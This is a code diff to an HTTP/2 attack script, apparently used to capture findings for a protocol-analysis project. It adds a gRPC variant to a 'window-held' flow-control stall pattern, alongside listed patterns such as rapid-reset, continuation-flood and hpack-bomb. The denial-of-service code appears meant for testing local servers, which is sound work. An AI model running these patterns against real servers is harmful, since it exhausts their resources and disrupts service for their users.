@@ -2,6 +2,7 @@
 """HTTP/2 attack patterns against a real server, for h2ledger's findings captures (issue 21).
 
 usage: /usr/bin/python3 attack.py PATTERN PORT [--host 127.0.0.1] [--n N] [--path P] [--hold S]
+       [--grpc N]
 
 PATTERN: rapid-reset, made-you-reset, reset-flood, continuation-flood, ping-flood,
 settings-flood, empty-frames-flood, priority-flood, window-update-flood, zero-window,
@@ -274,9 +275,18 @@ def run(a):
     elif a.pattern == "window-held":
         # Default windows (65,535 bytes each), requests for big responses, and no
         # WINDOW_UPDATE ever: the server sends 65,535 bytes and waits with both of its windows
-        # at 0 until the client closes, --hold seconds later.
+        # at 0 until the client closes, --hold seconds later. With --grpc: a gRPC call of
+        # --path whose one message is --grpc as a 4-byte big-endian number (grpcgo-flow's
+        # Download: that many messages of its -size).
         for i in range(a.n):
-            p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
+            if a.grpc is None:
+                p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
+            else:
+                sid = 1 + 2 * i
+                p.h2.send_headers(sid, request(a.path, "POST", [
+                    ("content-type", "application/grpc"), ("te", "trailers")]))
+                msg = struct.pack(">BI", 0, 4) + struct.pack(">I", a.grpc)
+                p.h2.send_data(sid, msg, end_stream=True)
         p.flush()
         sent["requests"] = a.n
     elif a.pattern == "hpack-bomb":
@@ -308,6 +318,8 @@ def main():
     ap.add_argument("--hold", type=float, default=1.0)
     ap.add_argument("--trigger", choices=["content-length", "data", "window-update"],
                     default="content-length")
+    ap.add_argument("--grpc", type=int, default=None, metavar="N",
+                    help="window-held: a gRPC call whose message is N (4 bytes, big-endian)")
     run(ap.parse_args())
 
 
